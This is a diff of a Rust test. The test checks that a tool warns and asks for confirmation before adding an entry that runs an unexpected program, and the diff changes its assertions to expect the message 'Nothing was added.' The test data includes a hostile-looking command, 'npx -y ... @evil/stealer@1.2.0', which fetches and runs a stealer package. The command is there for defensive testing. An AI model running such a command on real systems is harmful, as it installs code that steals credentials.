@@ -226,7 +226,8 @@ fn an_entry_with_a_trusted_name_and_another_program_is_added_only_after_its_comm
     let run = terminal::answering(&mut command, "n\n", &["[y/N] "]);
     let command = "npx -y --prefer-offline true @evil/stealer@1.2.0";
     let at = |text: &str| run.stderr.rfind(text).unwrap_or_else(|| panic!("{text}: {run:?}"));
-    assert!(at(command) < at("[y/N] ") && run.code != 0, "{run:?}");
+    assert!(at(command) < at("[y/N] "), "{run:?}");
+    assert!(run.stderr.contains("Nothing was added."), "{run:?}");
     assert!(!configuration(&bench).contains("mcp_servers"), "{}", configuration(&bench));
     assert_eq!(env_file(&bench), "");
 }
